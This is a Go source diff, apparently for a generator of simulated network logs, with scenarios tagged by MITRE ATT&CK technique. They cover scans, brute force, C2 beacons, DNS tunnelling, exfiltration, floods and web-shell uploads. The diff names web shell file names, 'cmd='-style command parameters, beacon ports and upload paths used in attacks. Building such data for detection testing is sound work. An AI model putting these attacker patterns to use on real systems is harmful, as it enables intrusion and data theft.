@@ -1,6 +1,7 @@
 package traffic
 
 import (
+	"cmp"
 	"net/netip"
 	"strconv"
 	"time"
@@ -11,149 +12,410 @@ import (
 // scenario is a kind of attack: one incident, or several that follow from each
 // other.
 type scenario struct {
-	name   string
-	fewest int           // events that it needs
-	least  time.Duration // time that it needs
-	plan   func(*plan)
+	name       string
+	fewest     int           // events that it needs
+	least      time.Duration // time that it needs
+	tactic     string        // where it is a single incident, as are the techniques
+	techniques ids
+	who        actor
+	plan       func(*plan, *station)
 }
 
-// scenarios are the attacks, each drawn anew in its tools, speed and size.
-var scenarios = []scenario{
-	{"exercise", 8, time.Minute, (*plan).exercise},
-	{"intrusion", 50, 8 * time.Minute, (*plan).intrusion},
-
-	{"port-scan", 25, 30 * time.Second, (*plan).portScan},
-	{"external-scan", 25, 30 * time.Second, (*plan).externalScan},
-	{"host-discovery", 25, 30 * time.Second, (*plan).hostDiscovery},
-	{"share-discovery", 15, 30 * time.Second, (*plan).shareDiscovery},
-	{"brute-force", 20, time.Minute, (*plan).bruteForce},
-	{"password-spraying", 18, 4 * time.Minute, (*plan).passwordSpraying},
-	{"credential-stuffing", 25, time.Minute, (*plan).credentialStuffing},
-	{"lateral-movement", 8, 2 * time.Minute, (*plan).lateralMovement},
-	{"c2-beacon", 20, 5 * time.Minute, (*plan).c2Beacon},
-	{"http-beacon", 16, 5 * time.Minute, (*plan).httpBeacon},
-	{"dns-tunnel", 30, time.Minute, (*plan).dnsTunnel},
-	{"dga", 20, time.Minute, (*plan).dga},
-	{"icmp-tunnel", 6, time.Minute, (*plan).icmpTunnel},
-	{"tor", 6, time.Minute, (*plan).tor},
-	{"remote-access", 4, time.Minute, (*plan).remoteAccess},
-	{"tool-transfer", 1, 30 * time.Second, (*plan).toolTransfer},
-	{"web-attack", 40, 2 * time.Minute, (*plan).webAttack},
-	{"exfiltration", 3, 2 * time.Minute, (*plan).exfiltration},
-	{"syn-flood", 150, 30 * time.Second, (*plan).synFlood},
-	{"http-flood", 120, 30 * time.Second, (*plan).httpFlood},
-	{"cryptomining", 4, time.Minute, (*plan).cryptomining},
-}
+type ids []string
 
 // firstScenarios begin a run, so that the smallest run shows them.
 const firstScenarios = 2
 
+// scenarios are the attacks, each drawn anew in its tools, speed and size. What
+// several of them do is a method below.
+var scenarios = []scenario{
+	// For those who write rules, and no default rule finds it: someone takes pictures of the company's cameras
+	// with a script. The recorder does so too: by another program.
+	{"exercise", 8, time.Minute, "TA0009", ids{"T1125"}, somebody, func(p *plan, s *station) {
+		for i := range p.turns(p.tempo(8, 90, 500*time.Millisecond, 20*time.Second), 30) {
+			p.photograph(s.v4, p.cameras[i%len(p.cameras)], "camgrab/0.9")
+		}
+	}},
+	// The way in and out: from a scan of the outer servers to the theft of data.
+	{"intrusion", 50, 8 * time.Minute, "", nil, outsider, func(p *plan, s *station) {
+		entry := p.jump
+		p.incident("scan", "TA0043", "T1595.001", "T1595.002", "T1595", "T1046")
+		p.scanPorts(s.v4, p.jump, p.vpn, p.mail, p.web)
+		p.rest()
+		user := pick(p.dice, lists.GuessedUsers)
+		p.guessPassword(s.v4, entry, "ssh", user, "brute-force")
+		p.pause(time.Second, 20*time.Second)
+		p.logInAfter(s.v4, entry, "ssh", user)
+		p.rest()
+		p.incident("discovery", "TA0007", "T1046", "T1018")
+		p.scanPorts(entry, p.server(entry), p.server(entry), p.server(entry))
+		p.rest()
+		p.moveAround(entry, user, "lateral-movement")
+		p.rest()
+		if p.chance(60) {
+			p.fetchTool(entry, "tool-transfer")
+			p.rest()
+		}
+		p.stealByFTP(entry, "exfiltration")
+	}},
+
+	// Open ports, looked for from within: those of one machine, or one service on many.
+	{"port-scan", 25, 30 * time.Second, "", nil, somebody, func(p *plan, s *station) {
+		if p.chance(50) {
+			p.incident("", "TA0007", "T1046")
+			p.scanPorts(s.v4, pick(p.dice, p.servers))
+		} else {
+			p.incident("", "TA0007", "T1046", "T1018")
+			p.sweep(s.v4, pick(p.dice, []int{1, 2, 3, 8}))
+		}
+	}},
+	{"external-scan", 25, 30 * time.Second, "TA0043", ids{"T1595.001", "T1595.002", "T1595", "T1046"}, nobody, func(p *plan, _ *station) {
+		if p.chance(50) {
+			p.scanPorts(p.outside(), p.mail, p.web, p.vpn)
+		} else {
+			p.sweep(p.outside(), 1)
+		}
+	}},
+	{"host-discovery", 25, 30 * time.Second, "TA0007", ids{"T1018", "T1046"}, somebody, func(p *plan, s *station) {
+		subnet := pick(p.dice, []int{1, 2, 3, 8})
+		t := p.tempo(30, 254, time.Millisecond, 30*time.Second)
+		first := p.below(254)
+		for i := range p.turns(t, 50) {
+			if to := p.host(subnet, 1+(first+i)%254); to != s.v4 {
+				e := p.ping(s.v4, to)
+				count(&e.Source, 0, 1)
+				count(&e.Destination, 0, p.below(4)/3)
+			}
+		}
+	}},
+	// The shares of one machine after the other.
+	{"share-discovery", 15, 30 * time.Second, "TA0007", ids{"T1135", "T1018", "T1046", "T1021.002"}, somebody, func(p *plan, s *station) {
+		t := p.tempo(16, min(120, len(p.machines)), 20*time.Millisecond, 45*time.Second)
+		first := p.below(len(p.machines))
+		for i := range p.turns(t, 50) {
+			to := p.machines[(first+i)%len(p.machines)]
+			if to == s.v4 {
+				continue
+			}
+			e := p.conn(s.v4, to, 445, "smb")
+			if p.chance(15) {
+				p.unanswered(e)
+			} else {
+				p.moves(e, bytes{700, 4000}, bytes{700, 9000}, 5*time.Millisecond, 900*time.Millisecond)
+			}
+		}
+	}},
+	// Guesses at one account's password; sometimes it is found.
+	{"brute-force", 20, time.Minute, "", nil, nobody, func(p *plan, _ *station) {
+		from, to, protocol := p.wayIn([]door{
+			{p.mail, "imap"}, {p.vpn, "vpn"}, {p.app, "rdp"}, {p.files, "smb"}, {p.jump, "ssh"},
+		})
+		user := pick(p.dice, lists.GuessedUsers)
+		if p.chance(40) {
+			user = somebody(p).user
+		}
+		p.guessPassword(from, to, protocol, user, "")
+		if p.chance(40) {
+			p.pause(time.Second, 20*time.Second)
+			p.logInAfter(from, to, protocol, user)
+		}
+	}},
+	// One or two passwords, tried on many accounts.
+	{"password-spraying", 18, 4 * time.Minute, "TA0006", ids{"T1110.003", "T1110.004", "T1110.001", "T1110"}, nobody, func(p *plan, _ *station) {
+		from, to, protocol := p.wayIn([]door{
+			{p.mail, "imap"}, {p.resolvers[0], "kerberos"}, {p.resolvers[1], "ldap"}, {p.vpn, "vpn"},
+		})
+		t := p.tempo(18, 300, 200*time.Millisecond, 2*time.Minute)
+		names := max(60, len(p.stations)) // where fewer people work, some are guessed
+		first := p.below(names)
+		for i := range p.turns(t, 60) {
+			p.login(from, to, protocol, userName((first+i)%names), false)
+		}
+		if p.chance(30) {
+			p.logInAfter(from, to, protocol, userName((first+p.below(t.n))%names))
+		}
+	}},
+	// Names and passwords stolen elsewhere, tried on the website's login.
+	{"credential-stuffing", 25, time.Minute, "TA0006", ids{"T1110.004", "T1110.003", "T1110.001", "T1110"}, outsider, func(p *plan, s *station) {
+		agent := pick(p.dice, []string{"python-requests/2.32.3", "Go-http-client/1.1", lists.Browsers[0], lists.Browsers[2], "okhttp/4.12.0"})
+		path := pick(p.dice, []string{"/account/login", "/login", "/api/v1/login", "/wp-login.php"})
+		for range p.turns(p.tempo(25, 800, 40*time.Millisecond, 25*time.Second), 60) {
+			status := 401
+			if p.chance(2) {
+				status = 302
+			}
+			p.requestWebsite(s.v4, "POST", path, "", agent, status, p.spread(300, 1500))
+		}
+	}},
+	{"lateral-movement", 8, 2 * time.Minute, "", nil, somebody, func(p *plan, s *station) {
+		p.moveAround(s.v4, pick(p.dice, []string{"administrator", "svc-deploy", "helpdesk", somebody(p).user}), "")
+	}},
+	// Calls home on a port of its own, again and again.
+	{"c2-beacon", 20, 5 * time.Minute, "TA0011", ids{"T1571", "T1095", "T1071.001", "T1071", "T1573"}, somebody, func(p *plan, s *station) {
+		from, home := s.v4, p.outside()
+		if s.v6.IsValid() && p.chance(30) {
+			from, home = s.v6, p.outside6()
+		}
+		port := pick(p.dice, []int{1177, 4444, 5552, 8443, 4443, 9443, 2222, 6666, p.between(1025, 65535), p.between(1025, 65535)})
+		protocol := pick(p.dice, []string{"", "", "ssl", "http"})
+		t := p.tempo(20, 500, 4*time.Second, 12*time.Minute)
+		percent := pick(p.dice, []int{0, 5, 10, 20, 37, 50})
+		down := pick(p.dice, []int{0, 0, 10, 60}) // how often nobody is at home
+		for range p.turns(t, percent) {
+			e := p.conn(from, home, port, protocol)
+			switch k := p.below(100); {
+			case k < down && k%2 == 0:
+				p.unanswered(e)
+			case k < down:
+				p.refused(e)
+			case k > 95: // orders
+				p.moves(e, bytes{1000, 90000}, bytes{5000, 900000}, 100*time.Millisecond, 20*time.Second)
+			default:
+				p.moved(e, p.between(90, 900), p.between(80, 700), p.delay(20*time.Millisecond, 4*time.Second))
+			}
+		}
+	}},
+	// Calls home by web requests that look like those of well-known tools in their default settings.
+	{"http-beacon", 16, 5 * time.Minute, "TA0011", ids{"T1071.001", "T1071", "T1571"}, somebody, func(p *plan, s *station) {
+		home, tool := p.outside(), pick(p.dice, lists.Beacons)
+		host := home.String()
+		if p.chance(40) {
+			host = p.badName()
+		}
+		t := p.tempo(16, 400, 4*time.Second, 5*time.Minute)
+		percent, path := pick(p.dice, []int{0, 10, 20, 37, 50}), pick(p.dice, tool.Get)
+		for range p.turns(t, percent) {
+			if p.chance(15) {
+				id := "id=" + strconv.Itoa(p.between(10000, 99999))
+				e := p.request(s.v4, home, "POST", host, tool.Post, id, tool.Agent, 200, p.between(0, 200))
+				p.moved(e, p.spread(300, 90000), p.between(0, 200), p.delay(20*time.Millisecond, time.Second))
+			} else {
+				p.request(s.v4, home, "GET", host, path, "", tool.Agent, 200, p.spread(40, 3000))
+			}
+		}
+	}},
+	// Data in names, as iodine, dnscat2 and scripts carry it.
+	{"dns-tunnel", 30, time.Minute, "TA0011", ids{"T1071.004", "T1572", "T1071", "T1048.003", "T1048", "T1041"}, somebody, func(p *plan, s *station) {
+		resolver, domain := p.resolver(), pick(p.dice, []string{"t.", "ns1.", "d.", ""})+p.badName()
+		kinds := pick(p.dice, [][]string{{"NULL"}, {"TXT"}, {"TXT", "CNAME", "MX"}, {"CNAME"}, {"A"}})
+		alphabet := pick(p.dice, []string{lowerHex, base32})
+		label, labels := p.between(34, 62), p.between(1, 3)
+		for range p.turns(p.tempo(30, 900, 15*time.Millisecond, 45*time.Second), 70) {
+			name := ""
+			for range labels {
+				name += p.text(label-p.below(4), alphabet) + "."
+			}
+			kind, answer := pick(p.dice, kinds), p.text(p.between(10, 90), alphabet)
+			if kind == "A" {
+				answer = p.outside().String()
+			}
+			e := p.query(s.v4, resolver, name+domain, kind, "NOERROR", answer)
+			if p.chance(3) {
+				e.DNS.ResponseCode, e.DNS.Answers = "SERVFAIL", ""
+			}
+		}
+	}},
+	// Looks for its master under names that an algorithm made: nearly all of them do not exist.
+	{"dga", 20, time.Minute, "TA0011", ids{"T1568.002", "T1568", "T1071.004"}, somebody, func(p *plan, s *station) {
+		resolver := p.resolver()
+		tops := pick(p.dice, [][]string{{".com", ".net", ".org", ".info", ".biz"}, {".ru", ".su"}, {".top", ".xyz"}, {".com"}})
+		alphabet, short := pick(p.dice, []string{letters, letters, alphanums}), p.between(11, 18)
+		spelled := p.chance(15) // of words, as some families do
+		t := p.tempo(20, 500, 30*time.Millisecond, 2*time.Minute)
+		for i := range p.turns(t, 60) {
+			name := p.text(p.between(short, short+6), alphabet)
+			if spelled {
+				name = pick(p.dice, lists.Words) + pick(p.dice, lists.Words)
+			}
+			name += pick(p.dice, tops)
+			if i == t.n-1 && p.chance(50) {
+				p.query(s.v4, resolver, name, "A", "NOERROR", p.outside().String())
+				break
+			}
+			p.query(s.v4, resolver, name, "A", "NXDOMAIN", "")
+		}
+	}},
+	{"icmp-tunnel", 6, time.Minute, "TA0011", ids{"T1095", "T1572", "T1048.003", "T1048"}, somebody, func(p *plan, s *station) {
+		home := p.outside()
+		for range p.turns(p.tempo(6, 40, 2*time.Second, 2*time.Minute), 50) {
+			p.moves(p.ping(s.v4, home), bytes{30000, 9e6}, bytes{9000, 9e6}, 5*time.Second, time.Minute)
+		}
+	}},
+	// Leaves by relays of the Tor network, at times after names that only exist within it.
+	{"tor", 6, time.Minute, "TA0011", ids{"T1090.003", "T1090", "T1571"}, somebody, func(p *plan, s *station) {
+		t := p.tempo(6, 60, time.Second, time.Minute)
+		leaks := p.chance(40)
+		for range p.turns(t, 60) {
+			if leaks && p.chance(40) {
+				p.query(s.v4, p.resolvers[0], p.text(56, base32)+".onion", "A", "NXDOMAIN", "")
+			} else {
+				relay, port := p.outside(), pick(p.dice, []int{9001, 9001, 9001, 9030})
+				p.moves(p.conn(s.v4, relay, port, "ssl"), bytes{3000, 900000}, bytes{5000, 9e6}, 10*time.Second, 10*time.Minute)
+			}
+		}
+	}},
+	// Installs a program that lets others in.
+	{"remote-access", 4, time.Minute, "TA0011", ids{"T1219", "T1219.002", "T1571"}, somebody, func(p *plan, s *station) {
+		tool := pick(p.dice, lists.RemoteTools)
+		for range p.turns(p.tempoOf(2, 2, 12, 2*time.Second, 2*time.Minute), 60) {
+			relay := p.outside()
+			name := tool.Relay + strconv.FormatInt(int64(p.below(5000)), 36) + tool.Domain
+			p.moves(p.call(s.v4, name, relay, tool.Port, "ssl"), bytes{3000, 90e6}, bytes{3000, 9e6}, 10*time.Second, time.Hour)
+		}
+	}},
+	{"tool-transfer", 1, 30 * time.Second, "", nil, somebody, func(p *plan, s *station) { p.fetchTool(s.v4, "") }},
+	// Looks for weak spots of the website, and goes in if it finds one.
+	{"web-attack", 40, 2 * time.Minute, "", nil, outsider, func(p *plan, s *station) {
+		p.incident("scan", "TA0043", "T1595.003", "T1595.002", "T1595", "T1190")
+		agent := pick(p.dice, lists.WebScanners)
+		if p.chance(40) {
+			agent = pick(p.dice, lists.Browsers)
+		}
+		for range p.turns(p.tempo(30, 1200, 5*time.Millisecond, 20*time.Second), 60) {
+			path := "/" + pick(p.dice, lists.ScannedPaths) + pick(p.dice, []string{"", "/", ".php", ".bak", ".old", ".zip", "~"})
+			if p.chance(60) {
+				path = "/" + pick(p.dice, lists.Words) + strconv.Itoa(p.below(100)) + pick(p.dice, []string{"", "/", ".php", ".asp", ".txt"})
+			}
+			status := pick(p.dice, []int{404, 404, 404, 404, 404, 404, 404, 404, 403, 301, 200})
+			p.requestWebsite(s.v4, "GET", path, "", agent, status, p.spread(160, 9000))
+		}
+		p.rest()
+		p.incident("exploit", "TA0001", "T1190", "T1595.002", "T1595")
+		agent = pick(p.dice, lists.Browsers)
+		t := p.tempo(4, 40, 200*time.Millisecond, 15*time.Second)
+		kind := pick(p.dice, lists.Exploits)
+		for range p.turns(t, 60) {
+			if p.chance(20) {
+				kind = pick(p.dice, lists.Exploits)
+			}
+			x := pick(p.dice, kind)
+			status := pick(p.dice, []int{200, 200, 404, 403, 500})
+			p.requestWebsite(s.v4, x.Method, x.Path, x.Query, cmp.Or(x.Agent, agent), status, p.spread(200, 20000))
+		}
+		if p.chance(60) {
+			p.rest()
+			p.incident("web-shell", "TA0003", "T1505.003", "T1505", "T1190", "T1059")
+			path := pick(p.dice, []string{"/uploads/", "/images/", "/wp-content/uploads/2026/", "/files/", "/tmp/"}) +
+				pick(p.dice, []string{"shell.php", "cmd.php", "c99.php", "up.jsp", "x.aspx", "wso.php", "img.php"})
+			key := pick(p.dice, []string{"cmd", "c", "exec", "command"})
+			agent := pick(p.dice, []string{lists.Browsers[0], "curl/8.10.1", "python-requests/2.32.3"})
+			for range p.turns(p.tempo(4, 25, 2*time.Second, 40*time.Second), 60) {
+				method := pick(p.dice, []string{"GET", "POST"})
+				p.requestWebsite(s.v4, method, path, key+"="+pick(p.dice, lists.Commands), agent, 200, p.spread(20, 9000))
+			}
+		}
+		if p.chance(40) {
+			p.rest()
+			p.fetchTool(p.web, "tool-transfer")
+		}
+	}},
+	// Data, stolen by FTP, to a store on the web, or over the way that orders come.
+	{"exfiltration", 3, 2 * time.Minute, "", nil, somebody, func(p *plan, s *station) {
+		switch k := p.below(10); {
+		case k < 2:
+			p.stealByFTP(s.v4, "")
+		case k < 7:
+			p.incident("", "TA0010", "T1567.002", "T1567", "T1048.002", "T1048")
+			to, where := p.outside(), pick(p.dice, lists.CloudStores)
+			agent := pick(p.dice, []string{"rclone/v1.68.2", where.Agent, pick(p.dice, lists.Browsers)})
+			for range p.turns(p.tempo(4, 40, 2*time.Second, 40*time.Second), 50) {
+				e := p.request(s.v4, to, where.Method, where.Domain, where.Path+p.text(14, alphanums), "", agent, 200, 400)
+				e.Destination.Port = event.Known(443)
+				p.moved(e, p.spread(30e6, 1e9), p.between(200, 900), p.delay(2*time.Second, 4*time.Minute))
+			}
+		default:
+			p.incident("", "TA0010", "T1041", "T1048.003", "T1048", "T1571", "T1071.001")
+			to := p.outside()
+			t := p.tempo(3, 20, 3*time.Second, time.Minute)
+			port, raw := p.between(1025, 65535), p.chance(50)
+			for range p.turns(t, 50) {
+				if raw {
+					p.moves(p.conn(s.v4, to, port, ""), bytes{30e6, 2e9}, bytes{900, 90000}, 4*time.Second, 5*time.Minute)
+					continue
+				}
+				path := pick(p.dice, []string{"/upload", "/gate.php", "/submit.php", "/api/data"})
+				e := p.request(s.v4, to, "POST", to.String(), path, "", lists.Browsers[0], 200, 100)
+				p.moved(e, p.spread(30e6, 900e6), p.between(60, 300), p.delay(4*time.Second, 5*time.Minute))
+			}
+		}
+	}},
+	// Connections, opened faster than a server can answer.
+	{"syn-flood", 150, 30 * time.Second, "TA0040", ids{"T1498.001", "T1499.001", "T1498", "T1499"}, nobody, func(p *plan, _ *station) {
+		t := p.tempo(150, 3000, 200*time.Microsecond, 200*time.Millisecond)
+		sources := p.botnet(t.n)
+		target, port := p.web, pick(p.dice, []int{80, 443})
+		if p.chance(30) {
+			target, port = p.vpn, 443
+		}
+		for i := range p.turns(t, 90) {
+			p.unanswered(p.conn(sources[i%len(sources)], target, port, ""))
+		}
+	}},
+	// Work for the website, asked for faster than it can be done.
+	{"http-flood", 120, 30 * time.Second, "TA0040", ids{"T1499.002", "T1499", "T1498.001", "T1498", "T1499.003"}, nobody, func(p *plan, _ *station) {
+		t := p.tempo(120, 3000, 2*time.Millisecond, 300*time.Millisecond)
+		sources := p.botnet(t.n)
+		path, agent := pick(p.dice, []string{"/", "/search", "/products"}), pick(p.dice, lists.Browsers)
+		busts := p.chance(50) // past the cache
+		for i := range p.turns(t, 90) {
+			query, status := "", 200
+			if busts {
+				query = "q=" + p.text(8, alphanums)
+			}
+			if i > t.n/3 && p.chance(70) {
+				status = 503
+			}
+			p.requestWebsite(sources[i%len(sources)], "GET", path, query, agent, status, p.spread(200, 30000))
+		}
+	}},
+	// Works for somebody else's wallet.
+	{"cryptomining", 4, time.Minute, "TA0040", ids{"T1496.001", "T1496", "T1571"}, somebody, func(p *plan, s *station) {
+		pool := pick(p.dice, lists.MiningPools)
+		home, port := p.outside(), pick(p.dice, []int{3333, 4444, 5555, 7777, 14444, 443})
+		for range p.turns(p.tempoOf(2, 2, 15, 5*time.Second, 3*time.Minute), 50) {
+			p.moves(p.call(s.v4, pool, home, port, ""), bytes{2000, 90000}, bytes{4000, 200000}, 30*time.Second, 30*time.Minute)
+		}
+	}},
+}
+
 // rest is the pause between the steps of an attack.
 func (p *plan) rest() {
-	p.wait(p.delay(5*time.Second, max(6*time.Second, min(15*time.Minute, (p.until-p.at)/10))))
-}
-
-// intrusion is the way in and out: from a scan of the outer servers to the
-// theft of data.
-func (p *plan) intrusion() {
-	attacker, entry := p.outside(), p.jump
-	p.scanPorts(attacker, []netip.Addr{p.jump, p.vpn, p.mail, p.web}, "scan", "TA0043", "T1595.001", "T1595.002", "T1595", "T1046")
-	p.rest()
-	user := pick(p.dice, guessedUsers)
-	p.guessPassword(attacker, entry, sshService, user, "brute-force")
-	p.wait(p.delay(time.Second, 20*time.Second))
-	p.logInAfter(attacker, entry, sshService, user, "login")
-	p.rest()
-	p.scanPorts(entry, []netip.Addr{p.server(entry), p.server(entry), p.server(entry)}, "discovery", "TA0007", "T1046", "T1018")
-	p.rest()
-	p.moveAround(entry, user, "lateral-movement")
-	p.rest()
-	if p.chance(60) {
-		p.fetchTool(entry, "tool-transfer")
-		p.rest()
-	}
-	p.stealByFTP(entry, "exfiltration")
-}
-
-// exercise is for those who write rules, and no default rule finds it: someone
-// takes pictures of the company's cameras with a script. The recorder does so
-// too: by another program.
-func (p *plan) exercise() {
-	p.incident("", "TA0009", "T1125")
-	spy := p.somebody()
-	n := p.size(8, 90)
-	gap := p.pace(n, 500*time.Millisecond, 20*time.Second)
-	for i := range n {
-		camera := p.cameras[i%len(p.cameras)]
-		p.request(spy.v4, camera, "GET", camera.String(), snapshotPath, "", "camgrab/0.9", 200, p.spread(60000, 300000))
-		p.wait(p.jitter(gap, 30))
-	}
-}
-
-// portScan looks for open ports from within: those of one machine, or one
-// service on many.
-func (p *plan) portScan() {
-	from := p.somebody().v4
-	if p.chance(50) {
-		p.scanPorts(from, []netip.Addr{pick(p.dice, p.servers)}, "", "TA0007", "T1046")
-		return
-	}
-	p.sweep(from, p.subnet(), "", "TA0007", "T1046", "T1018")
-}
-
-// subnet draws one of the company's subnets.
-func (p *plan) subnet() int { return pick(p.dice, []int{1, 2, 3, 8}) }
-
-func (p *plan) externalScan() {
-	if p.chance(50) {
-		p.scanPorts(p.outside(), []netip.Addr{p.mail, p.web, p.vpn}, "", "TA0043", "T1595.001", "T1595.002", "T1595", "T1046")
-		return
-	}
-	p.sweep(p.outside(), 1, "", "TA0043", "T1595.001", "T1595.002", "T1595", "T1046")
+	p.pause(5*time.Second, max(6*time.Second, min(15*time.Minute, (p.until-p.at)/10)))
 }
 
 // scanPorts tries many ports of targets, as nmap does by default: the common
-// ones in a random order. Behind a firewall they stay silent, else they refuse.
-func (p *plan) scanPorts(from netip.Addr, targets []netip.Addr, step, tactic string, techniques ...string) {
-	p.incident(step, tactic, techniques...)
-	n := p.size(25, 1500)
-	gap := p.pace(n, 200*time.Microsecond, time.Minute)
+// ones in another order, then any. Behind a firewall they stay silent, else they
+// refuse.
+func (p *plan) scanPorts(from netip.Addr, targets ...netip.Addr) {
+	t := p.tempo(25, 1500, 200*time.Microsecond, time.Minute)
 	silent := pick(p.dice, []int{5, 50, 95})
-	source := int64(p.between(32768, 60999))
+	source := event.Known(int64(p.between(32768, 60999))) // raw SYN packets come from one port
 	first := p.below(len(targets))
-	used := min(len(targets), 1+n/100) // enough ports on each
-	for i := range n {
-		e := p.conn(from, targets[(first+i%used)%len(targets)], p.scannedPort(i/used), "")
-		e.Source.Port = event.Known(source) // raw SYN packets come from one port
+	used := min(len(targets), 1+t.n/100) // enough ports on each
+	for i := range p.turns(t, 60) {
+		port := lists.CommonPorts[(i/used*7+p.number)%len(lists.CommonPorts)]
+		if i/used >= len(lists.CommonPorts) {
+			port = p.between(1, 65535)
+		}
+		e := p.conn(from, targets[(first+i%used)%len(targets)], port, "")
+		e.Source.Port = source
 		switch k := p.below(100); {
 		case k < 3:
-			e.ConnState = "RSTO"
-			p.moved(e, 0, 0, p.delay(100*time.Microsecond, 50*time.Millisecond))
+			p.dropped(e)
 		case k < silent:
 			p.unanswered(e)
 		default:
 			p.refused(e)
 		}
-		p.wait(p.jitter(gap, 60))
 	}
-}
-
-// scannedPort is the i-th port of a scan: common ones first, then any.
-func (p *plan) scannedPort(i int) int {
-	if i < len(commonPorts) {
-		return commonPorts[(i*7+p.number)%len(commonPorts)]
-	}
-	return p.between(1, 65535)
 }
 
 // sweep tries one or two ports on all machines of a subnet, as masscan does.
-func (p *plan) sweep(from netip.Addr, subnet int, step, tactic string, techniques ...string) {
-	p.incident(step, tactic, techniques...)
+func (p *plan) sweep(from netip.Addr, subnet int) {
 	ports := pick(p.dice, [][]int{{445}, {22}, {3389}, {80, 443}, {23}, {6379}, {1433, 3306}, {8080}})
-	n := p.size(30, 254*len(ports))
-	gap := p.pace(n, 500*time.Microsecond, 45*time.Second)
+	t := p.tempo(30, 254*len(ports), 500*time.Microsecond, 45*time.Second)
 	first := p.below(254)
-	for i := range n {
+	for i := range p.turns(t, 60) {
 		to := p.host(subnet, 1+(first+i/len(ports))%254)
 		if to == from {
 			continue
@@ -161,333 +423,67 @@ func (p *plan) sweep(from netip.Addr, subnet int, step, tactic string, technique
 		e := p.conn(from, to, ports[i%len(ports)], "")
 		switch k := p.below(100); {
 		case k < 5:
-			e.ConnState = "RSTO"
-			p.moved(e, 0, 0, p.delay(100*time.Microsecond, 50*time.Millisecond))
+			p.dropped(e)
 		case k < 25:
 			p.refused(e)
 		default:
 			p.unanswered(e)
 		}
-		p.wait(p.jitter(gap, 60))
 	}
 }
 
-// hostDiscovery pings a subnet.
-func (p *plan) hostDiscovery() {
-	p.incident("", "TA0007", "T1018", "T1046")
-	from, subnet := p.somebody().v4, p.subnet()
-	n := p.size(30, 254)
-	gap := p.pace(n, time.Millisecond, 30*time.Second)
-	first := p.below(254)
-	for i := range n {
-		to := p.host(subnet, 1+(first+i)%254)
-		if to == from {
-			continue
-		}
-		e := p.conn(from, to, 0, "")
-		e.Transport, e.ConnState = "icmp", "OTH"
-		e.Source.Port = event.Known(8) // echo request, RFC 792
-		e.Source.Bytes, e.Source.Packets = event.Known(0), event.Known(1)
-		e.Destination.Bytes, e.Destination.Packets = event.Known(0), event.Known(int64(p.below(4)/3))
-		p.wait(p.jitter(gap, 50))
-	}
+// door is where one can try to log in.
+type door struct {
+	host     netip.Addr
+	protocol string
 }
 
-// shareDiscovery lists the shares of one machine after the other.
-func (p *plan) shareDiscovery() {
-	p.incident("", "TA0007", "T1135", "T1018", "T1046", "T1021.002")
-	from := p.somebody().v4
-	n := p.size(16, min(120, p.machines()))
-	gap := p.pace(n, 20*time.Millisecond, 45*time.Second)
-	first := p.below(p.machines())
-	for i := range n {
-		to := p.machine(first + i)
-		if to == from {
-			continue
-		}
-		e := p.conn(from, to, 445, "smb")
-		if p.chance(15) {
-			p.unanswered(e)
-		} else {
-			p.moved(e, p.spread(700, 4000), p.spread(700, 9000), p.delay(5*time.Millisecond, 900*time.Millisecond))
-		}
-		p.wait(p.jitter(gap, 50))
+// wayIn draws one of doors and who tries it: somebody outside, or within where
+// only the company's own machines get to.
+func (p *plan) wayIn(doors []door) (from, to netip.Addr, protocol string) {
+	from = p.outside()
+	d := pick(p.dice, doors)
+	if d.host.As4()[2] != dmz {
+		from = somebody(p).v4
 	}
+	return from, d.host, d.protocol
 }
 
-// bruteForce guesses one account's password; sometimes it is found.
-func (p *plan) bruteForce() {
-	from, to, service := p.outside(), p.jump, sshService
-	switch p.below(5) {
-	case 0:
-		to, service = p.mail, imapService
-	case 1:
-		to, service = p.vpn, vpnService
-	case 2:
-		from, to, service = p.somebody().v4, p.app, rdpService
-	case 3:
-		from, to, service = p.somebody().v4, p.files, smbService
-	}
-	user := pick(p.dice, guessedUsers)
-	if p.chance(40) {
-		user = p.somebody().user
-	}
-	p.guessPassword(from, to, service, user, "")
-	if p.chance(40) {
-		p.wait(p.delay(time.Second, 20*time.Second))
-		p.logInAfter(from, to, service, user, "login")
-	}
-}
-
-func (p *plan) guessPassword(from, to netip.Addr, service *service, user, step string) {
+func (p *plan) guessPassword(from, to netip.Addr, protocol, user, step string) {
 	p.incident(step, "TA0006", "T1110.001", "T1110.003", "T1110.004", "T1110")
-	n := p.size(20, 900)
-	gap := p.pace(n, 30*time.Millisecond, 30*time.Second) // from hydra with 16 tasks to one that minds lockouts
-	for range n {
-		p.login(from, to, service, user, false)
-		p.wait(p.jitter(gap, 50))
+	// From hydra with 16 tasks to one that minds lockouts.
+	for range p.turns(p.tempo(20, 900, 30*time.Millisecond, 30*time.Second), 50) {
+		p.login(from, to, protocol, user, false)
 	}
 }
 
 // logInAfter uses a password that was found.
-func (p *plan) logInAfter(from, to netip.Addr, service *service, user, step string) {
-	p.incident(step, "TA0001", "T1078", "T1110.001", "T1110.003", "T1110", "T1133")
-	for range p.between(1, 4) {
-		p.login(from, to, service, user, true)
-		p.wait(p.delay(time.Second, 40*time.Second))
+func (p *plan) logInAfter(from, to netip.Addr, protocol, user string) {
+	p.incident("login", "TA0001", "T1078", "T1110.001", "T1110.003", "T1110", "T1133")
+	for range p.times(1, 4, time.Second, 40*time.Second) {
+		p.login(from, to, protocol, user, true)
 	}
 }
 
-// passwordSpraying tries one or two passwords on many accounts.
-func (p *plan) passwordSpraying() {
-	p.incident("", "TA0006", "T1110.003", "T1110.004", "T1110.001", "T1110")
-	from, to, service := p.outside(), p.vpn, vpnService
-	switch p.below(4) {
-	case 0:
-		to, service = p.mail, imapService
-	case 1:
-		from, to, service = p.somebody().v4, p.resolvers[0], kerberosService
-	case 2:
-		from, to, service = p.somebody().v4, p.resolvers[1], ldapService
-	}
-	n := p.size(18, 300)
-	gap := p.pace(n, 200*time.Millisecond, 2*time.Minute)
-	names := max(60, len(p.stations)) // where fewer people work, some are guessed
-	first := p.below(names)
-	for i := range n {
-		p.login(from, to, service, userName((first+i)%names), false)
-		p.wait(p.jitter(gap, 60))
-	}
-	if p.chance(30) {
-		p.logInAfter(from, to, service, userName((first+p.below(n))%names), "login")
-	}
-}
-
-// credentialStuffing tries names and passwords stolen elsewhere on the
-// website's login.
-func (p *plan) credentialStuffing() {
-	p.incident("", "TA0006", "T1110.004", "T1110.003", "T1110.001", "T1110")
-	from := p.outside()
-	agent := pick(p.dice, []string{"python-requests/2.32.3", "Go-http-client/1.1", browsers[0], browsers[2], "okhttp/4.12.0"})
-	path := pick(p.dice, []string{"/account/login", "/login", "/api/v1/login", "/wp-login.php"})
-	n := p.size(25, 800)
